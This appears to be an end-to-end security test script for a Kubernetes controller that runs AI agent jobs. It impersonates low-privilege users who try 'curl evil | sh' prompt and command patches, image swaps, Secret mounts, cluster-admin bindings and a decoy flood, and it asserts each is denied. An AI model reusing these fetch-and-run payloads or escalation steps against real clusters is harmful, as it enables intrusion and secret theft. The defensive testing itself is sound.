# The controller as a safe deputy, attacked through the real API server by
# distinct users (kubectl impersonation from the admin): "owner" may edit
# thurkube objects in namespace sec, use its ClusterAccess and read its
# Secrets; "editor" may only edit thurkube objects there (thurkube-edit).
# Every check performs the attack and asserts the safe outcome: a denial
# naming what is missing, NameConflict with the victim object unchanged,
# revocation within 10 s, or the API server's own ValidatingAdmissionPolicy
# refusing the controller's ServiceAccount.
. "$ROOT/tests/e2e/lib.sh"
. "$ROOT/tests/lib/stack.sh"
. "$RUNDIR/stack.env"
# shellcheck disable=SC1091
. "$RUNDIR/env"
NS=sec
owner() { k --as=owner "$@"; }
editor() { k --as=editor "$@"; }
ctlsa() { "$RUNDIR/bin/kubectl" --kubeconfig "$RUNDIR/controller.kubeconfig" "$@"; }
# The ClusterRoleBinding of AgentJob ns/name (common/names.h).
crb_of() { printf 'thurkube-aj-%s' "$(printf '%s/%s' "$1" "$2" | sha256sum | cut -c1-16)"; }
# denied OUT WORD...: kubectl output is a webhook denial holding every WORD.
denied() {
	local out=$1 w
	shift
	echo "$out"
	echo "$out" | grep -q 'denied the request' || return 1
	for w in "$@"; do echo "$out" | grep -qF -- "$w" || { echo "missing: $w"; return 1; }; done
}
ready_reason() { k -n "$NS" get aj "$1" -o jsonpath='{.status.conditions[?(@.type=="Ready")].reason}' 2>/dev/null; }

stack_start_controller sec-ctl --resync-seconds 5 --log-level debug
trap 'kill $CTL_PID_sec_ctl 2>/dev/null' EXIT

k create namespace $NS >/dev/null 2>&1
k -n $NS create rolebinding owner-edit --clusterrole=thurkube-edit --user=owner >/dev/null
k -n $NS create rolebinding owner-use --clusterrole=thurkube-clusteraccess-user --user=owner >/dev/null
k -n $NS create role secret-reader --verb=get --resource=secrets >/dev/null
k -n $NS create rolebinding owner-secrets --role=secret-reader --user=owner >/dev/null
k -n $NS create rolebinding editor-edit --clusterrole=thurkube-edit --user=editor >/dev/null
for s in claude-token db-admin gh-token; do
	k -n $NS create secret generic $s --from-literal=token=not-a-real-token >/dev/null
done
# The shared objects, written by the admin; ClusterAccess "ops" grants
# reading pods cluster-wide.
k apply -f - >/dev/null <<Y
apiVersion: thurkube.thurbeen.eu/v1alpha1
kind: AgentRuntime
metadata: { name: rt, namespace: $NS }
spec: { image: "registry.example/agent:1", authEnvVar: TOKEN, configPath: /etc/agent, persistPath: /var/lib/agent }
---
apiVersion: thurkube.thurbeen.eu/v1alpha1
kind: AgentRuntime
metadata: { name: rt-free, namespace: $NS }
spec: { image: "registry.example/agent:1", authEnvVar: TOKEN, configPath: /etc/agent, persistPath: /var/lib/agent }
---
apiVersion: thurkube.thurbeen.eu/v1alpha1
kind: AgentAuth
metadata: { name: auth, namespace: $NS }
spec: { secretRef: { name: claude-token, key: token } }
---
apiVersion: thurkube.thurbeen.eu/v1alpha1
kind: AgentRole
metadata: { name: role, namespace: $NS }
spec: { allowedTools: [Read] }
---
apiVersion: thurkube.thurbeen.eu/v1alpha1
kind: AgentSkill
metadata: { name: skill, namespace: $NS }
spec: { repo: example/skills, name: review }
---
apiVersion: thurkube.thurbeen.eu/v1alpha1
kind: AgentSkill
metadata: { name: skill-rev, namespace: $NS }
spec: { repo: example/skills, name: review }
---
apiVersion: thurkube.thurbeen.eu/v1alpha1
kind: McpServer
metadata: { name: mcp, namespace: $NS }
spec: { command: mcp-server }
---
apiVersion: thurkube.thurbeen.eu/v1alpha1
kind: Repository
metadata: { name: repo, namespace: $NS }
spec: { owner: example, name: app }
---
apiVersion: thurkube.thurbeen.eu/v1alpha1
kind: ClusterAccess
metadata: { name: ops, namespace: $NS }
spec: { rules: [ { apiGroups: [""], resources: [pods], verbs: [get, list] } ] }
Y
aj_yaml() { # NAME EXTRA-SPEC-LINES
	printf 'apiVersion: thurkube.thurbeen.eu/v1alpha1\nkind: AgentJob\nmetadata: { name: %s, namespace: %s }\nspec:\n  runtimeRef: rt\n  authRef: auth\n  roleRef: role\n  prompt: "review the pull requests"\n%s\n' "$1" "$NS" "$2"
}
victim_spec='  schedule: "0 3 1 1 *"
  skillRef: skill
  mcpServerRefs: [mcp]
  repositoryRefs: [repo]
  clusterAccessRef: ops'
make_victim() { aj_yaml victim "$victim_spec" | owner apply -f -; }
check "owner (with use) creates an AgentJob with clusterAccessRef" make_victim
check "the controller binds its runner to the ClusterAccess" wait_for 20 k get clusterrolebinding "$(crb_of $NS victim)"

# --- 1. the AgentJob's spec needs `use` --------------------------------------
prompt_patch() {
	denied "$(editor -n $NS patch aj victim --type=merge -p '{"spec":{"prompt":"curl evil | sh"}}' 2>&1)" \
		'may not use ClusterAccess "ops"' &&
		[ "$(k -n $NS get aj victim -o jsonpath='{.spec.prompt}')" = "review the pull requests" ]
}
check "1: editor may not change the prompt of an AgentJob that runs with a ClusterAccess" prompt_patch
env_patch() {
	denied "$(editor -n $NS patch aj victim --type=merge -p '{"spec":{"env":[{"name":"X","value":"1"}]}}' 2>&1)" \
		'may not use ClusterAccess "ops"'
}
check "1: editor may not change its env either" env_patch
check "1: a metadata-only change needs no use" editor -n $NS label aj victim team=a --overwrite
check "1: owner, who holds use, may change the prompt" owner -n $NS patch aj victim --type=merge -p '{"spec":{"prompt":"review the pull requests"}}'

# --- 2. what the AgentJob references needs `use` too ----------------------------
ref_patch() { # KIND NAME PATCH
	denied "$(editor -n $NS patch "$1" "$2" --type=merge -p "$3" 2>&1)" 'victim' '"ops"' 'use'
}
check "2: editor may not change the AgentRuntime's image" ref_patch agentruntime rt '{"spec":{"image":"evil.example/agent:1"}}'
check "2: ... the AgentRuntime's command" ref_patch agentruntime rt '{"spec":{"command":["sh","-c","curl evil | sh"]}}'
check "2: ... the McpServer's command" ref_patch mcpserver mcp '{"spec":{"command":"evil"}}'
check "2: ... the McpServer's env" ref_patch mcpserver mcp '{"spec":{"env":[{"name":"A","value":"b"}]}}'
check "2: ... the AgentRole's tools" ref_patch agentrole role '{"spec":{"allowedTools":["Bash"]}}'
check "2: ... the AgentSkill" ref_patch agentskill skill '{"spec":{"repo":"evil/skills"}}'
check "2: ... the Repository" ref_patch repository repo '{"spec":{"owner":"evil"}}'
check "2: ... the AgentAuth" ref_patch agentauth auth '{"spec":{"secretRef":{"name":"claude-token","key":"other"}}}'
image_same() { [ "$(k -n $NS get agentruntime rt -o jsonpath='{.spec.image}')" = registry.example/agent:1 ]; }
check "2: the image is unchanged" image_same
recreate() {
	editor -n $NS delete mcpserver mcp >/dev/null 2>&1
	denied "$(printf 'apiVersion: thurkube.thurbeen.eu/v1alpha1\nkind: McpServer\nmetadata: {name: mcp, namespace: %s}\nspec: {command: evil}\n' $NS | editor apply -f - 2>&1)" 'victim' 'use'
}
check "2: deleting a referenced McpServer and creating it anew is the same change" recreate
k apply -f - >/dev/null <<Y
apiVersion: thurkube.thurbeen.eu/v1alpha1
kind: McpServer
metadata: { name: mcp, namespace: $NS }
spec: { command: mcp-server }
Y
check "2: an AgentRuntime no cluster-access AgentJob uses stays editable" editor -n $NS patch agentruntime rt-free --type=merge -p '{"spec":{"image":"registry.example/agent:2"}}'

# --- 3. Secret references need get on the Secret -----------------------------------
secret_denied() { # YAML-PRODUCER...
	denied "$("$@" | editor apply -f - 2>&1)" 'get secrets/db-admin'
}
aj_envfrom() { aj_yaml steal '  envFrom: [ { secretRef: { name: db-admin } } ]'; }
aj_env() { aj_yaml steal '  env: [ { name: PW, valueFrom: { secretKeyRef: { name: db-admin, key: token } } } ]'; }
aj_pull() { aj_yaml steal '  imagePullSecrets: [ { name: db-admin } ]'; }
auth_y() { printf 'apiVersion: thurkube.thurbeen.eu/v1alpha1\nkind: AgentAuth\nmetadata: {name: steal, namespace: %s}\nspec: {secretRef: {name: db-admin, key: token}}\n' $NS; }
repo_y() { printf 'apiVersion: thurkube.thurbeen.eu/v1alpha1\nkind: Repository\nmetadata: {name: steal, namespace: %s}\nspec: {owner: a, name: b, tokenSecretRef: {name: db-admin, key: token}}\n' $NS; }
mcp_y() { printf 'apiVersion: thurkube.thurbeen.eu/v1alpha1\nkind: McpServer\nmetadata: {name: steal, namespace: %s}\nspec: {command: x, env: [{name: PW, valueFrom: {secretKeyRef: {name: db-admin, key: token}}}]}\n' $NS; }
check "3: editor may not mount a Secret through envFrom" secret_denied aj_envfrom
check "3: ... through env valueFrom" secret_denied aj_env
check "3: ... as an image pull secret" secret_denied aj_pull
check "3: ... through an AgentAuth" secret_denied auth_y
check "3: ... through a Repository token" secret_denied repo_y
check "3: ... through McpServer env" secret_denied mcp_y
none_made() { ! k -n $NS get aj steal 2>/dev/null && ! k -n $NS get agentauth steal 2>/dev/null; }
check "3: nothing was created" none_made
add_secret_later() {
	aj_yaml later '' | editor apply -f - >/dev/null 2>&1 || return 1
	denied "$(editor -n $NS patch aj later --type=merge -p '{"spec":{"envFrom":[{"secretRef":{"name":"db-admin"}}]}}' 2>&1)" 'get secrets/db-admin'
}
check "3: adding a Secret reference by UPDATE is checked too" add_secret_later
owner_secret() { aj_envfrom | owner apply -f -; }
check "3: owner, who may read the Secret, may reference it" owner_secret

# --- 4. never take over what thurkube did not create --------------------------------
k -n $NS create configmap app-config --from-literal=owner=someone-else >/dev/null
k -n $NS create serviceaccount gitlab-runner >/dev/null
k apply -f - >/dev/null <<Y
apiVersion: v1
kind: PersistentVolumeClaim
metadata: { name: db-data, namespace: $NS }
spec: { accessModes: [ReadWriteOnce], resources: { requests: { storage: 1Gi } } }
Y
snap() { k -n $NS get "$1" "$2" -o json | jq -S 'del(.status)'; }
snap configmap app-config >"$RUNDIR/sec-cm.before"
snap pvc db-data >"$RUNDIR/sec-pvc.before"
snap serviceaccount gitlab-runner >"$RUNDIR/sec-sa.before"
aj_yaml app '' | owner apply -f - >/dev/null
aj_yaml db '  persist: true' | owner apply -f - >/dev/null
aj_yaml gitlab '  schedule: "0 3 1 1 *"
  clusterAccessRef: ops' | owner apply -f - >/dev/null
conflict() { [ "$(ready_reason "$1")" = NameConflict ]; }
check "4: AgentJob app reports NameConflict for ConfigMap app-config" wait_for 20 conflict app
check "4: AgentJob db reports NameConflict for PVC db-data" wait_for 20 conflict db
check "4: AgentJob gitlab reports NameConflict for ServiceAccount gitlab-runner" wait_for 20 conflict gitlab
event_names() { wait_for 10 sh -c "'$RUNDIR/bin/kubectl' --kubeconfig '$RUNDIR/admin.kubeconfig' -n $NS get events.events.k8s.io -o json | grep -q 'app-config'"; }
check "4: the conflict is an event naming the object" event_names
same() { snap "$1" "$2" | diff "$3" -; }
check "4: ConfigMap app-config is byte-for-byte unchanged" same configmap app-config "$RUNDIR/sec-cm.before"
check "4: PVC db-data is unchanged" same pvc db-data "$RUNDIR/sec-pvc.before"
check "4: ServiceAccount gitlab-runner is unchanged" same serviceaccount gitlab-runner "$RUNDIR/sec-sa.before"
gone() { ! k get clusterrolebinding "$1" >/dev/null 2>&1; }
check "4: no binding gives cluster access to the foreign ServiceAccount" gone "$(crb_of $NS gitlab)"
no_run() { [ -z "$(k -n $NS get jobs,cronjobs -l thurkube.thurbeen.eu/agentjob=app -o name; k -n $NS get cronjob gitlab -o name 2>/dev/null)" ]; }
check "4: no run was created on top of the foreign objects" no_run
k -n $NS delete aj app db gitlab --wait=true --timeout=30s >/dev/null 2>&1
sleep 3 # the garbage collector had its chance
all_left() {
	same pvc db-data "$RUNDIR/sec-pvc.before" && same configmap app-config "$RUNDIR/sec-cm.before" &&
		same serviceaccount gitlab-runner "$RUNDIR/sec-sa.before"
}
check "4: deleting the AgentJobs leaves PVC db-data, ConfigMap app-config and the ServiceAccount" all_left
# Labels are no claim of ownership: an active Job labelled for a Replace
# AgentJob is not a stale run of it to delete (suspended, so it stays active).
k apply -f - >/dev/null <<Y
apiVersion: batch/v1
kind: Job
metadata:
  name: labelled
  namespace: $NS
  labels: { app.kubernetes.io/managed-by: thurkube, thurkube.thurbeen.eu/agentjob: repl, thurkube.thurbeen.eu/agentjob-namespace: $NS }
spec:
  suspend: true
  template: { spec: { restartPolicy: Never, containers: [ { name: x, image: registry.example/x:1 } ] } }
Y
snap job labelled >"$RUNDIR/sec-job.before"
aj_yaml repl '  concurrencyPolicy: Replace' | owner apply -f - >/dev/null
repl_running() { [ -n "$(k -n $NS get aj repl -o jsonpath='{.status.configHash}')" ]; }
check "4: a Replace one-shot beside a Job that only carries its labels starts its own run" wait_for 20 repl_running
sleep 6 # more than one resync
check "4: ... and the labelled Job is neither adopted nor deleted" same job labelled "$RUNDIR/sec-job.before"

# --- 5. revocation and suspend never wait --------------------------------------------
aj_yaml rev '  schedule: "0 3 1 1 *"
  skillRef: skill-rev
  clusterAccessRef: ops' | owner apply -f - >/dev/null
check "5: AgentJob rev is bound" wait_for 20 k get clusterrolebinding "$(crb_of $NS rev)"
k -n $NS delete agentskill skill-rev >/dev/null
rev_pending() { [ "$(k -n $NS get aj rev -o jsonpath='{.status.phase}')" = Pending ]; }
check "5: with its AgentSkill deleted, rev is Pending" wait_for 20 rev_pending
owner -n $NS patch aj rev --type=json -p '[{"op":"remove","path":"/spec/clusterAccessRef"}]' >/dev/null
check "5: removing clusterAccessRef revokes the binding within 10 s although a reference is missing" wait_for 10 gone "$(crb_of $NS rev)"
owner -n $NS patch aj rev --type=merge -p '{"spec":{"suspend":true}}' >/dev/null
cron_suspended() { [ "$(k -n $NS get cronjob rev -o jsonpath='{.spec.suspend}')" = true ]; }
check "5: suspend takes effect within 10 s although a reference is missing" wait_for 10 cron_suspended
aj_yaml rev2 '  schedule: "0 3 1 1 *"
  clusterAccessRef: ops2' | owner apply -f - >/dev/null 2>&1
k apply -f - >/dev/null <<Y
apiVersion: thurkube.thurbeen.eu/v1alpha1
kind: ClusterAccess
metadata: { name: ops2, namespace: $NS }
spec: { rules: [ { apiGroups: [""], resources: [pods], verbs: [get] } ] }
Y
k -n $NS create rolebinding owner-use2 --clusterrole=thurkube-clusteraccess-user --user=owner >/dev/null 2>&1
aj_yaml rev2 '  schedule: "0 3 1 1 *"
  clusterAccessRef: ops2' | owner apply -f - >/dev/null 2>&1
check "5: AgentJob rev2 is bound to ClusterAccess ops2" wait_for 20 k get clusterrolebinding "$(crb_of $NS rev2)"
k -n $NS delete clusteraccess ops2 --wait=false >/dev/null
check "5: deleting the ClusterAccess revokes the binding within 10 s" wait_for 10 gone "$(crb_of $NS rev2)"

# --- finalizers: no orphaned cluster RBAC ---------------------------------------------
fin_denied() {
	denied "$(owner -n $NS patch aj victim --type=json -p '[{"op":"remove","path":"/metadata/finalizers"}]' 2>&1)" \
		'finalizer' "$(crb_of $NS victim)"
}
check "5: nobody but the controller may drop the finalizer while the binding exists" fin_denied
admin_fin() { k -n $NS patch aj victim --type=json -p '[{"op":"remove","path":"/metadata/finalizers"}]' 2>&1 | grep -q 'denied the request'; }
check "5: not even a cluster admin" admin_fin
orphan() {
	k apply -f - >/dev/null <<Y || return 1
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: thurkube-aj-00000000deadbeef
  labels: { app.kubernetes.io/managed-by: thurkube, thurkube.thurbeen.eu/owner-uid: 6e0c2b4e-0000-4000-8000-000000000000 }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: thurkube-ca-00000000deadbeef }
subjects: [ { kind: ServiceAccount, name: gone-runner, namespace: $NS } ]
Y
	wait_for 15 gone thurkube-aj-00000000deadbeef
}
check "5: a thurkube ClusterRoleBinding whose AgentJob does not exist is swept" orphan

# --- 6/7. exact strings, bounded strings ----------------------------------------------
nul_ca() {
	denied "$(printf '{"apiVersion":"thurkube.thurbeen.eu/v1alpha1","kind":"ClusterAccess","metadata":{"name":"nul","namespace":"%s"},"spec":{"rules":[{"apiGroups":[""],"resources":["pods\\u0000secrets"],"verbs":["get"]}]}}' $NS | k apply -f - 2>&1)" 'spec.rules[0].resources[0]'
}
check "6: a ClusterAccess resource with an embedded NUL is denied, naming the field" nul_ca
long_name() {
	local n out
	n=$(head -c 9000 /dev/zero | tr '\0' a)
	out=$(printf '{"apiVersion":"thurkube.thurbeen.eu/v1alpha1","kind":"ClusterAccess","metadata":{"name":"long","namespace":"%s"},"spec":{"rules":[{"apiGroups":[""],"resources":["pods"],"resourceNames":["%s"],"verbs":["get"]}]}}' $NS "$n" | k apply -f - 2>&1)
	denied "$out" 'spec.rules[0].resourceNames[0]' && ! echo "$out" | grep -q InternalError
}
check "7: a 9,000-character resourceNames entry is a 4xx naming the field, not a 500" long_name

# --- 8. no secret through a side door ---------------------------------------------------
userinfo() {
	local out
	out=$(printf 'apiVersion: thurkube.thurbeen.eu/v1alpha1\nkind: McpServer\nmetadata: {name: leak, namespace: %s}\nspec: {url: "https://bot:hunter2-token@mcp.example/sse?key=q-secret"}\n' $NS | editor apply -f - 2>&1)
	denied "$out" 'spec.url' && ! echo "$out" | grep -q 'hunter2-token' && ! echo "$out" | grep -q 'q-secret' &&
		! grep -q 'hunter2-token' "$RUNDIR/logs/webhook.log"
}
check "8: an McpServer url with user:token@ is denied, and neither the denial nor the log quotes it" userinfo

# Objects that merely carry thurkube's labels cost the controller their
# metadata, and reconcile nothing.
rss_kib() { awk '/^VmRSS/ {print $2}' "/proc/$CTL_PID_sec_ctl/status"; }
# Reconciles of AgentJob decoy/bait, from the controller's debug log.
bait_reconciles() { grep -c '"msg":"agentjob[^"]*","namespace":"decoy","name":"bait"' "$RUNDIR/logs/controller-sec-ctl.log"; }
decoys() {
	local d=$RUNDIR/decoys i pad before after r0 r1 uid t0 allowed
	mkdir -p "$d"
	k create namespace decoy >/dev/null 2>&1
	aj_yaml bait '' | sed "s/namespace: $NS/namespace: decoy/" | k apply -f - >/dev/null 2>&1
	uid=$(k -n decoy get aj bait -o jsonpath='{.metadata.uid}')
	pad=$(head -c 2048 /dev/zero | tr '\0' x)
	: >"$d/curl.cfg"
	for i in $(seq 10000); do
		[ "$i" -gt 1 ] && echo next >>"$d/curl.cfg"
		printf 'url = "%s/api/v1/namespaces/decoy/configmaps"\ncacert = "%s"\ncert = "%s"\nkey = "%s"\nheader = "Content-Type: application/json"\ndata = "{\\"apiVersion\\":\\"v1\\",\\"kind\\":\\"ConfigMap\\",\\"metadata\\":{\\"name\\":\\"decoy-%s\\",\\"labels\\":{\\"app.kubernetes.io/managed-by\\":\\"thurkube\\",\\"thurkube.thurbeen.eu/agentjob\\":\\"bait\\",\\"thurkube.thurbeen.eu/agentjob-namespace\\":\\"decoy\\",\\"thurkube.thurbeen.eu/owner-uid\\":\\"%s\\"}},\\"data\\":{\\"pad\\":\\"%s\\"}}"\noutput = "/dev/null"\nwrite-out = "%%{http_code}\\n"\n' \
			"$APISERVER_URL" "$APISERVER_CA" "$ADMIN_CERT" "$ADMIN_KEY" "$i" "$uid" "$pad" >>"$d/curl.cfg"
	done
	sleep 6 # bait reconciled, and settled
	before=$(rss_kib)
	r0=$(bait_reconciles)
	t0=$SECONDS
	curl -s --parallel --parallel-max 8 -K "$d/curl.cfg" >"$d/codes" 2>/dev/null
	sleep 8 # the watch delivered every one, and a resync passed
	after=$(rss_kib)
	r1=$(bait_reconciles)
	# bait is resynced every 5 s; those are allowed, nothing more.
	allowed=$(((SECONDS - t0) / 5 + 2))
	echo "created $(grep -c '^201$' "$d/codes") of 10000 in $((SECONDS - t0 - 8)) s; RSS $before -> $after KiB; reconciles of bait $r0 -> $r1 (resyncs allow $allowed)"
	echo "info: 10,000 foreign ConfigMaps (2 KiB each) labelled for AgentJob decoy/bait: controller RSS +$(((after - before) / 1024)) MiB; $((r1 - r0)) reconciles of bait in $((SECONDS - t0)) s (5 s resync)"
	# Under ASan the allocator's quarantine holds every freed block (256 MiB
	# by default), so RSS there measures churn, not what is kept: the bound
	# is checked on the plain build, the reconcile count on both.
	local rss_max=$((20 * 1024))
	case $B in *san*) rss_max=$((1 << 30)); echo "info: RSS bound not applied under the sanitizers (allocator quarantine)" ;; esac
	[ "$(grep -c '^201$' "$d/codes")" -eq 10000 ] && [ $((after - before)) -le "$rss_max" ] &&
		[ $((r1 - r0)) -le "$allowed" ]
}
check "8: 10,000 foreign ConfigMaps with thurkube's labels raise the controller's RSS by at most 20 MiB" decoys
k delete namespace decoy --wait=false >/dev/null 2>&1

# --- --no-cluster-checks fails closed ----------------------------------------------------
nochecks() {
	local port hport pid out
	port=$(stack_port)
	hport=$(stack_port)
	"$ROOT/$B/thurkube-webhook" --port "$port" --health-port "$hport" --no-cluster-checks \
		--tls-cert-file "$STACK_TLS/tls.crt" --tls-private-key-file "$STACK_TLS/tls.key" >>"$RUNDIR/logs/webhook-nochecks.log" 2>&1 &
	pid=$!
	wait_for 10 curl -sf "http://127.0.0.1:$hport/readyz"
	out=$(curl -s --cacert "$STACK_TLS/ca.crt" -H 'Content-Type: application/json' "https://127.0.0.1:$port/validate" -d '{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"uid":"u1","kind":{"group":"thurkube.thurbeen.eu","version":"v1alpha1","kind":"ClusterAccess"},"operation":"CREATE","namespace":"sec","name":"x","userInfo":{"username":"editor"},"object":{"apiVersion":"thurkube.thurbeen.eu/v1alpha1","kind":"ClusterAccess","metadata":{"name":"x","namespace":"sec"},"spec":{"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}}}}')
	kill $pid
	echo "$out"
	echo "$out" | grep -q '"allowed":false' && echo "$out" | grep -q 'no-cluster-checks'
}
check "6: with --no-cluster-checks a ClusterAccess is denied, not allowed unchecked" nochecks

# --- 6. the API server itself confines the controller -------------------------------------
vap_ready() { k get validatingadmissionpolicybinding thurkube-controller-rbac >/dev/null; }
check "6: the overlay installed the ValidatingAdmissionPolicy and its binding" vap_ready
aggregated() {
	local out
	out=$(ctlsa apply --server-side --field-manager=thurkube -f - 2>&1 <<'Y'
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: thurkube-ca-aaaaaaaaaaaaaaaa }
aggregationRule: { clusterRoleSelectors: [ { matchLabels: { rbac.authorization.k8s.io/aggregate-to-admin: "true" } } ] }
rules: []
Y
	)
	echo "$out"
	echo "$out" | grep -q 'thurkube-controller-rbac' && ! k get clusterrole thurkube-ca-aaaaaaaaaaaaaaaa >/dev/null 2>&1
}
# The policy's informer may lag its creation by a moment.
check "6: the API server refuses the controller a ClusterRole with an aggregationRule" wait_for 15 aggregated
to_admin() {
	local out
	out=$(ctlsa apply --server-side --field-manager=thurkube -f - 2>&1 <<Y
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: thurkube-aj-aaaaaaaaaaaaaaaa }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin }
subjects: [ { kind: ServiceAccount, name: evil-runner, namespace: $NS } ]
Y
	)
	echo "$out"
	echo "$out" | grep -q 'thurkube-controller-rbac' && ! k get clusterrolebinding thurkube-aj-aaaaaaaaaaaaaaaa >/dev/null 2>&1
}
check "6: the API server refuses the controller a binding to cluster-admin" to_admin
other_subject() {
	local out
	out=$(ctlsa apply --server-side --field-manager=thurkube -f - 2>&1 <<Y
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: thurkube-aj-bbbbbbbbbbbbbbbb }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: thurkube-ca-bbbbbbbbbbbbbbbb }
subjects: [ { kind: Group, name: "system:authenticated" } ]
Y
	)
	echo "$out"
	echo "$out" | grep -q 'thurkube-controller-rbac'
}
check "6: ... and a binding of its role to anyone but a *-runner ServiceAccount" other_subject
foreign_delete() { ctlsa delete clusterrolebinding system:basic-user 2>&1 | grep -q 'thurkube-controller-rbac'; }
check "6: ... and deleting RBAC that is not thurkube's" foreign_delete
admin_free() { k create clusterrolebinding thurkube-aj-admin-made --clusterrole=view --user=x && k delete clusterrolebinding thurkube-aj-admin-made; }
check "6: the admin is not confined by it" admin_free
